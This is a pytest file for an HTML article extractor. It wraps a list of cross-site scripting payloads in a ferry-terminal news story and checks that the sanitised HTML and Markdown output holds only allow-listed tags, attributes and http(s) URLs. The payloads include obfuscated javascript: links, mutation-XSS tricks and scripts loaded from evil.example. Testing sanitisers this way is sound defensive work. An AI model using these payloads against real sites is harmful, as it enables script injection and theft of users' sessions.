"""The event's ``html`` (and ``markdown``) from hostile pages: checked by parsing the output.

Every payload sits inside an otherwise ordinary article body, so it reaches the body's typed blocks;
the output is parsed with Lexbor (and the Markdown with a CommonMark parser) and every element,
attribute and URL is checked against the allow-list, not just searched for strings.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser, LexborNode

import sieve
from sieve.render import ALLOWED_ATTRS, ALLOWED_TAGS

PROSE = (
    "The harbour authority on Wednesday approved plans for a new ferry terminal on the north quay, ending a "
    "review that lasted almost four years and drew more than two thousand public comments from residents."
)
MORE = (
    "The terminal will replace a cramped waiting room built in the 1960s and will have space for bicycles, a "
    "covered walkway to the bus station and a small cafe run by a local charity, officials said on Wednesday."
)

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script_upper_src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_module": '<script type="module">import("//evil.example/x")</script>',
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "onclick": '<span onclick="alert(1)">click me please</span>',
    "img_onerror": '<img src="https://cdn.example.org/a.jpg" onerror="alert(1)" width="640" height="400">',
    "link_onmouseover": '<a href="https://news.example.org/ok" onmouseover="alert(1)">a fine link</a>',
    "js_href": '<a href="javascript:alert(1)">javascript link</a>',
    "js_href_case": '<a href="JaVaScRiPt:alert(1)">mixed case link</a>',
    "js_href_tab": '<a href="jav&#x09;ascript:alert(1)">tab link</a>',
    "js_href_entity": '<a href="&#106;avascript:alert(1)">entity link</a>',
    "js_href_space": '<a href=" \x01javascript:alert(1)">space link</a>',
    "js_href_newline": '<a href="java\nscript:alert(1)">newline link</a>',
    "data_href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    "vbscript_href": '<a href="vbscript:msgbox(1)">vb link</a>',
    "backslash_href": '<a href="\\\\evil.example/x">backslash link</a>',
    "data_img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="640" height="400">',
    "js_img": '<img src="javascript:alert(1)" width="640" height="400">',
    "srcset": '<img srcset="javascript:alert(1) 1x, data:image/png;base64,AAAA 2x" width="640" height="400">',
    "picture_js": '<picture><source srcset="javascript:alert(1)"><img src="jAvascript:alert(1)"></picture>',
    "svg_script": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>svg text</text></a></svg>',
    "svg_onload": '<svg onload="alert(1)"><foreignObject><p onclick="alert(1)">inside svg</p></foreignObject></svg>',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "iframe_evil": '<iframe src="https://evil.example/frame"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe_js": '<iframe src="javascript:alert(1)"></iframe>',
    "object_js": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(2)">',
    "style_attr": '<span style="background:url(javascript:alert(1))">styled words</span>',
    "style_tag": "<style>@import 'javascript:alert(1)';</style>",
    "form": '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>',
    "base_meta": '<base href="javascript:alert(1)//"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "nested_broken": '<a href="https://news.example.org/x"><p>nested <b><i>deep</a> unclosed',
    "comment_cdata": "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(2)</script>]]>",
    "entity_script": "&lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x onerror=alert(1)&#62;",
    "double_entity": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "markdown_tricks": "[click](javascript:alert(1)) ![x](javascript:alert(1)) <script>x</script> `code`",
    "template": "<template><script>alert(1)</script></template>",
}


def hostile_page(payload: str) -> str:
    return (
        "<html><head><title>Ferry terminal approved</title></head><body><article>"
        "<h1>Ferry terminal approved</h1>"
        f"<p>{PROSE}</p><p>Residents said {payload} the plan was overdue. {MORE}</p><p>{MORE}</p>"
        f"<ul><li>{payload} first item of a list in the body</li><li>second item</li></ul>"
        f"<blockquote><p>{payload} a quoted line from the letter to the authority.</p></blockquote>"
        f"<p>{PROSE}</p><figure>{payload}<figcaption>A caption {payload}</figcaption></figure>"
        f"<p>{MORE} {payload}</p></article></body></html>"
    )


def _check_url(url: str | None) -> None:
    assert url, "empty URL"
    parts = urlsplit(url)
    assert parts.scheme in ("http", "https") and parts.netloc, url
    assert "javascript" not in url.lower().replace("%", "") or parts.netloc.endswith("example.org"), url


def _walk(root: LexborNode) -> list[LexborNode]:
    return [n for n in root.traverse(include_text=True) if n.mem_id != root.mem_id]


def check_html(html: str) -> None:
    tree = LexborHTMLParser(f"<!doctype html><html><head></head><body>{html}</body></html>")
    head = tree.head
    assert head is not None and not head.html.removeprefix("<head>").removesuffix("</head>"), "content in <head>"
    body = tree.body
    assert body is not None
    for node in _walk(body):
        tag = node.tag or ""
        if tag.startswith("-"):
            assert tag == "-text", f"unexpected {tag} node"
            continue
        assert tag in ALLOWED_TAGS, f"<{tag}> is not allowed: {node.html[:120]}"
        allowed = ALLOWED_ATTRS.get(tag, frozenset())
        for name, value in node.attributes.items():
            assert name in allowed, f"<{tag} {name}=…> is not allowed"
            if name in ("href", "src"):
                _check_url(value)


def check_markdown(markdown: str) -> None:
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    check_html(rendered)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_hostile_bodies_give_safe_html(name: str) -> None:
    article = sieve.extract(
        hostile_page(PAYLOADS[name]), url="https://news.example.org/harbour/ferry", formats=("html", "markdown")
    )
    assert article.page_type == "article"
    assert article.html, "the body must come out"
    assert PROSE in article.text and MORE in article.text
    check_html(article.html)
    assert article.markdown is not None
    check_markdown(article.markdown)
    for image in article.images:
        _check_url(image["url"])
    for link in article.links:
        _check_url(link["href"])
    for video in article.videos:
        _check_url(video["url"])


def test_escaped_markup_stays_text() -> None:
    page = hostile_page("").replace("<ul>", "<p>Type &lt;b&gt;bold&lt;/b&gt; to get bold text.</p><ul>")
    article = sieve.extract(page, formats=("html", "markdown"))
    assert "Type <b>bold</b> to get bold text." in article.paragraphs  # shown as text on the page: so in the event
    tree = LexborHTMLParser(article.html or "")
    assert not tree.css("b, script, img[onerror]")
    assert "Type &lt;b&gt;bold&lt;/b&gt; to get bold text." in (article.html or "")
    assert not LexborHTMLParser(MarkdownIt("commonmark").render(article.markdown or "")).css("b")


def test_without_a_base_url_relative_links_are_dropped_from_html() -> None:
    page = hostile_page('<a href="/relative/path">relative link</a>')
    article = sieve.extract(page, formats=("html",))
    tree = LexborHTMLParser(article.html or "")
    assert all((a.attributes.get("href") or "").startswith(("http://", "https://")) for a in tree.css("a"))
    assert "relative link" in (article.html or "")


def test_only_allowed_tags_are_produced_for_every_block_type() -> None:
    from pathlib import Path

    page = (Path(__file__).parent / "fixtures" / "pages" / "tech_explainer_structure.html").read_bytes()
    article = sieve.extract(
        page,
        url="https://www.riversideledger.com/tech/2024/05/how-the-citys-new-flood-sensors-work",
        formats=("html",),
    )
    check_html(article.html or "")
    tree = LexborHTMLParser(article.html or "")
    for tag in ("p", "h2", "h3", "ul", "ol", "li", "blockquote", "pre", "table", "th", "td", "figure", "img", "a"):
        assert tree.css_first(tag) is not None, tag
